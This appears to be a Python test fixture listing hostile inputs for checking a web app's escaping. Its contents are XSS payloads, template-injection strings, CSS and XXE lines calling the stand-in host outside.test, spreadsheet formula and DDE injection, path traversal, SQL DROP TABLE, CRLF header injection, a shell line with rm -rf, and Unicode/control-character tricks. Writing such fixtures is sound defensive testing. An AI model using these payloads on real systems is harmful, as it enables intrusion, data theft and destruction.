"""What people could type to break something: every text by the name of what it tries, all our own."""

from __future__ import annotations

import unicodedata

RAN = "window.__ran=(window.__ran||0)+1"
"""What a script in a text would do: a page counts it, and a test looks."""
OUTSIDE = "http://outside.test/taken"

SCRIPTS = {
    "script": f"<script>{RAN}</script>",
    "script cut": f"</script><script>{RAN}//",
    "comment": f"--><script>{RAN}</script><!--",
    "cdata": f"]]><script>{RAN}</script>",
    "title": f"</title></textarea></style><img src=x onerror='{RAN}'>",
    "image": f"<img src=x onerror={RAN}>",
    "svg": f"<svg onload={RAN}><animate onbegin={RAN} attributeName=x dur=1s>",
    "svg link": f"<svg><a xlink:href='javascript:{RAN}'><text y=20>x</text></a></svg>",
    "details": f"<details open ontoggle={RAN}>",
    "attribute": f'" onfocus="{RAN}" autofocus x="',
    "attribute 1": f"' onmouseover='{RAN}' x='",
    "attribute bare": f"x onclick={RAN} ",
    "javascript": f"javascript:{RAN}",
    "data": f"data:text/html,<script>{RAN}</script>",
    "frame": f"<iframe srcdoc='<script>parent.{RAN}</script>'>",
    "meta": f"<meta http-equiv=refresh content='0;url={OUTSIDE}'>",
    "base": f"<base href={OUTSIDE}/>",
    "image outside": f"<img src={OUTSIDE}.png><link rel=stylesheet href={OUTSIDE}.css>",
    "form": f"<form action={OUTSIDE}><button>OK</button>",
    "entities": f"&lt;script&gt;{RAN}&lt;/script&gt;&#60;b&#62;&amp;amp;",
    "half an entity": "&#x3C;b&#x3E &copy &lang; &",
}
TEMPLATES = {
    "jinja": "{{ 7*7 }}{% for x in [].__class__.__base__.__subclasses__() %}{{x}}{% endfor %}",
    "jinja comment": "{# x #}{{ config }}{{ self }}",
    "literal": f"${{{RAN}}} `${{7*7}}`",
    "braces": "{0.__class__} {n} {name!r:>99} {{}} {",
    "percent": "%s %(name)s %d 100% %n",
    "replacement": "$& $1 $` $' \\1 \\g<0>",
    "markup": "[bold red]x[/bold red][/][link=http://outside.test]y[/link]",
    "gettext": "{room}人 {report} {date} {count}",
}
STYLES = {
    "style": f"<style>*{{background:url({OUTSIDE}.gif)}}</style>",
    "style value": f"red;background:url({OUTSIDE}.gif)",
    "import": f"@import url({OUTSIDE}.css);",
    "expression": f"}}body{{background:url('{OUTSIDE}')}}/*",
}
UNICODE = {
    "turned": "abc\u202egnp.exe\u202c",
    "isolated": "\u2067مرحبا\u2069 \u2066x\u2069",
    "right to left": "שלום مرحبا",
    "zero width": "働\u200bき\u200c方\u200d\ufeff\u2060",
    "only invisible": "\u200b\u200d\u2060",
    "combining flood": "あ" + "\u0301\u0489\u20dd" * 6,
    "emoji": "👩\u200d👩\u200d👧\u200d👦👍🏽🇯🇵1️⃣",
    "newer emoji": "\U0001fae8\U0001faea",
    "rare kanji": "𠮷野家の𩸽と髙﨑",
    "variation": "葛\U000e0100飾区",
    "compatibility": "㍿①ｱｲｳ㋿",
    "noncharacters": "a\uffff\ufdd0b\U0001ffff",
    "private use": "\ue000\U000f0000",
    "lone surrogate": "a\ud800b",
    "lone low surrogate": "\udfff",
}
CONTROLS = {
    "nul": "a\x00b",
    "escape": "\x1b[2J\x1b[31m赤\x1b]0;title\x07\x1b[6n",
    "control sequence": "\x9b2J\x9d0;x\x9c",
    "bell and back": "a\x07\x08\x08b",
    "vertical tab": "a\x0bb\x0cc\x1cd\x85e",
    "line separators": "a\u2028b\u2029c",
    "delete": "a\x7fb",
    "carriage return": "good\rbad\r\nnext\nlast",
}
TABLES = {
    "formula": "=1+1",
    "formula plus": "+1+1",
    "formula minus": "-2+3",
    "formula at": "@SUM(1,1)",
    "wide formula": "＝1+1",
    "wide minus": "－1+1",
    "formula behind blanks": "  =1+1",
    "formula behind a wide blank": "\u3000=1+1",
    "formula behind nothing": "\ufeff\u200b=1+1",
    "formula behind a tab": "\t=1+1",
    "formula behind a return": "\r=1+1",
    "exchange": "=cmd|' /C calc'!A0",
    "link": f'=HYPERLINK("{OUTSIDE}","x")',
    "array": "{=1+1}",
    "separators": 'a,"b";c\td|"',
    "quoted lines": '"\r\n=1+1,"x"',
    "leading apostrophe": "'=1+1",
    "leading zeros": "0123",
}
FORMATS = {
    "path": "../../etc/passwd",
    "windows path": "..\\..\\C:\\x\\con.txt",
    "sql": "'); DROP TABLE wli_sessions; --",
    "like": "%_'",
    "rtf": "{\\rtf1\\ansi{\\*\\x}\\par}",
    "xml": f'<!DOCTYPE x [<!ENTITY y SYSTEM "{OUTSIDE}">]><x>&y;</x>',
    "office markup": "</a:t></a:r><a:r><a:t>x_x000D_",
    "mail": "x\r\nBcc: all@outside.test\r\n\r\nbody",
    "calendar": "x\r\nEND:VEVENT\r\nBEGIN:VALARM\r\nATTACH:http://outside.test\\;,:",
    "card": "BEGIN:VCARD\r\nFN:x\r\nEND:VCARD",
    "header": "x\r\nSet-Cookie: wli-facilitator=x",
    "json": '"},{"type":"end"}',
    "number": "1e309",
    "nothing": "null",
    "shell": "$(touch /tmp/x) `id` ; rm -rf x &",
    "log": "\n2026-01-01 ERROR forged line",
}
LONG = {
    "long word": "W" * 400,
    "long kanji": "働" * 400,
    "long address": "https://wli.example.org/" + "x" * 300,
    "many lines": "行\n" * 200,
}
HOSTILE = {**SCRIPTS, **TEMPLATES, **STYLES, **UNICODE, **CONTROLS, **TABLES, **FORMATS, **LONG}
"""Every text, by what it is."""
MESSAGES_CANNOT = ("lone surrogate", "lone low surrogate")
"""What no page can send over a websocket, and only a program beside it can try."""


def within(text: str, most: int) -> str:
    """Return as much of a text as fits into `most` characters."""
    return text[:most]


def obeyed(text: str) -> list[str]:
    """Return what a terminal or a document would obey instead of showing it; line ends and tabs are shown."""
    return [
        letter
        for letter in text
        if (unicodedata.category(letter) in ("Cc", "Cs") and letter not in "\n\r\t")
        or letter in "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
    ]
